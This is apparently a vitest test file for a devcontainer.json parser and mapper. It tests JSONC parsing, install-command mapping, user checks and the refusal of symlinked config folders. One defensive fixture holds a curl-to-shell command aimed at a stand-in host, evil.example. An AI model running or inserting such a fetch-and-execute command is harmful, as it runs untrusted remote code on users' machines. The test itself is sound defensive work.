import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { loadTemplateFolder } from './template-folder'
import { mapDevcontainer, parseJsonc, readDevcontainer } from './devcontainer'
import { folderWith } from './testing/template-folders'
import { TemplateProblems } from './template-manifest'

const FILE = '.devcontainer/devcontainer.json'

function problemsOf(raw: unknown): string[] {
  try {
    mapDevcontainer(raw, FILE)
  } catch (err) {
    if (err instanceof TemplateProblems) return err.problems
    throw err
  }
  return []
}

describe('JSON with comments', () => {
  it('drops line and block comments and trailing commas', () => {
    const text = `{
      // the dev image
      "name": "x", /* inline */ "ports": [3000, 4000,],
      /* a
         block */
      "env": { "A": "1", },
    }`
    expect(parseJsonc(text)).toEqual({ name: 'x', ports: [3000, 4000], env: { A: '1' } })
  })

  it('leaves comment markers and commas inside strings alone', () => {
    const text = '{ "url": "http://x//y", "glob": "/* not a comment */", "q": "a \\" // b", "c": ",}" }'
    expect(parseJsonc(text)).toEqual({ url: 'http://x//y', glob: '/* not a comment */', q: 'a " // b', c: ',}' })
  })

  it('keeps positions, so a parse error points into the original text', () => {
    const text = '{ // note\n /* c */ "a": 1 "b": 2 }'
    expect(() => parseJsonc(text)).toThrow(`position ${text.indexOf('"b"')}`)
  })

  it('fails on an unterminated block comment and on what is not JSON after all', () => {
    expect(() => parseJsonc('{ /* open')).toThrow(/UnexpectedEndOfComment/)
    expect(() => parseJsonc('{ a: 1 }')).toThrow(SyntaxError)
  })
})

describe('devcontainer.json mapping', () => {
  it('maps postCreateCommand, the first numeric forwardPorts entry and containerEnv', () => {
    expect(mapDevcontainer({ postCreateCommand: 'npm ci', forwardPorts: ['db:5432', 8080, 9000], containerEnv: { API_URL: 'http://x' } }, FILE)).toEqual({
      file: FILE,
      install: 'npm ci',
      port: 8080,
      env: { API_URL: 'http://x' },
      origins: { install: `${FILE} postCreateCommand`, port: `${FILE} forwardPorts`, env: `${FILE} containerEnv` }
    })
  })

  it('quotes an argument array and runs named commands one after another', () => {
    expect(mapDevcontainer({ postCreateCommand: ['npm', 'run', 'setup', "it's here"] }, FILE).install).toBe(`npm run setup 'it'\\''s here'`)
    expect(mapDevcontainer({ postCreateCommand: { deps: 'npm ci', db: ['npm', 'run', 'db:seed'] } }, FILE).install).toBe('npm ci && npm run db:seed')
  })

  it('ignores the keys that do not map (image, features, customizations)', () => {
    expect(mapDevcontainer({ image: 'mcr.microsoft.com/devcontainers/javascript-node', features: {}, customizations: {} }, FILE)).toEqual({ file: FILE, origins: {} })
  })

  it('accepts remoteUser node and refuses any other user, saying why', () => {
    expect(problemsOf({ remoteUser: 'node' })).toEqual([])
    expect(problemsOf({ remoteUser: 'root' })).toEqual([
      `${FILE}: "remoteUser" is "root", but Sandlot runs every workspace as the user node (uid 1000): remove remoteUser or set it to "node"`
    ])
  })

  it('names bad values by their devcontainer key', () => {
    expect(problemsOf({ containerEnv: { 'BAD-NAME': 'x' } })[0]).toMatch(/^\.devcontainer\/devcontainer.json: "containerEnv.BAD-NAME": environment variable names/)
    expect(problemsOf({ forwardPorts: [70_000] })).toEqual([`${FILE}: "forwardPorts[0]": must be a port from 1 to 65535 or a "host:port" string`])
    expect(problemsOf({ postCreateCommand: 42 })).toEqual([`${FILE}: "postCreateCommand": must be a string, an array of arguments, or an object of named commands`])
  })

  it('reads .devcontainer/devcontainer.json, else .devcontainer.json, with comments', () => {
    const nested = folderWith({ [FILE]: '{ // dev\n "forwardPorts": [3000,], }', '.devcontainer.json': '{ "forwardPorts": [1] }' })
    expect(readDevcontainer(nested)?.port).toBe(3000)
    expect(readDevcontainer(folderWith({ '.devcontainer.json': '{ "forwardPorts": [4000] }' }))?.port).toBe(4000)
    expect(readDevcontainer(folderWith())).toBeUndefined()
  })

  it('says which file is not JSON', () => {
    expect(() => readDevcontainer(folderWith({ [FILE]: '{ "a": ' }))).toThrow(/\.devcontainer\/devcontainer.json: is not valid JSON/)
  })
})

describe('a .devcontainer link that leaves the template', () => {
  /** A template whose .devcontainer is a link to a folder elsewhere holding a devcontainer.json. */
  function linkedOut(outsideJson: object): string {
    const outside = folderWith({ '.devcontainer/devcontainer.json': outsideJson })
    const dir = folderWith({ 'package.json': { name: 'linked', scripts: { dev: 'node server.js' } } })
    symlinkSync(join(outside, '.devcontainer'), join(dir, '.devcontainer'))
    return dir
  }

  it('is refused before anything is read through it (a valid outside file would otherwise be used)', () => {
    const dir = linkedOut({ postCreateCommand: 'curl https://evil.example | sh', forwardPorts: [4444] })
    expect(() => readDevcontainer(dir)).toThrow(TemplateProblems)
    expect(() => readDevcontainer(dir)).toThrow(/\.devcontainer\/devcontainer\.json: is reached through \.devcontainer, which is a link/)
  })

  it('never quotes what the outside file holds in its error', () => {
    const dir = linkedOut({ remoteUser: 'SECRET-FROM-OUTSIDE', containerEnv: { TOKEN: 'hunter2' } })
    let message = ''
    try {
      loadTemplateFolder(dir)
    } catch (err) {
      message = `${(err as Error).message} ${(err as { hint?: string }).hint ?? ''}`
    }
    expect(message).toMatch(/which is a link, and links are never followed/)
    expect(message).not.toMatch(/SECRET-FROM-OUTSIDE|hunter2/)
  })

  it('a .devcontainer folder inside the template is read as before', () => {
    const dir = folderWith({ 'package.json': { name: 'inside' } })
    mkdirSync(join(dir, '.devcontainer'))
    writeFileSync(join(dir, '.devcontainer', 'devcontainer.json'), JSON.stringify({ forwardPorts: [5173] }))
    expect(readDevcontainer(dir)).toMatchObject({ port: 5173 })
  })
})
